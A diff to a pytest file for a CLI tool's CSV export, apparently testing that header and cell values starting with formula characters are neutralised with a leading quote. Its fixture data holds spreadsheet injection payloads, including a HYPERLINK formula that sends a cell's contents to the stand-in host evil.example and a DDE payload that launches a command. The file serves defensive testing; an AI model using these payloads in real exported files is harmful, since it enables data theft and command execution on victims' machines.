@@ -18,8 +18,11 @@ from kehu_core.services.exporting import FORMULA_START
 from .conftest import kehu, kehu_subprocess
 from .test_hostile import tree_hash
 
+# (a field's name holds no tab or line break: refused by check since the tenth round, so a
+# header cell starting with one is no longer possible; values starting so are in STARTS)
 NAMES = ['=HYPERLINK("http://evil.example/?x="&A2,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
-         "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+         "=cmd|' /C calc'!A0"]
+STARTS = ["\t=1+1", "\r=1+1"]  # values a spreadsheet takes for formulas behind a tab or CR
 
 
 @pytest.fixture
@@ -29,6 +32,7 @@ def store(tmp_path: Path) -> Path:
     cid = kehu("customer", "add", "--name", "=1+1", "--phone", "13800138000", store=path).out.strip()
     record = path / "customers" / shard(cid) / cid / "customer.yaml"
     extra = "".join(f'{json.dumps(n)}: "=2+{i}"\n' for i, n in enumerate(NAMES))  # JSON is YAML
+    extra += "".join(f"start{i}: {json.dumps(v)}\n" for i, v in enumerate(STARTS))
     record.write_text(record.read_text(encoding="utf-8") + extra, encoding="utf-8")
     assert kehu("check", store=path).code == 0
     return path
@@ -47,6 +51,8 @@ def test_csv_header_and_cells_are_neutralised(store: Path, tmp_path: Path) -> No
     header, row = rows[0], rows[1]
     for name in NAMES:
         assert "'" + name in header, (name, header)
+    for value in STARTS:
+        assert "'" + value in row, (value, row)
     assert not [c for c in header + row if _formula_like(c)], header + row
 
 
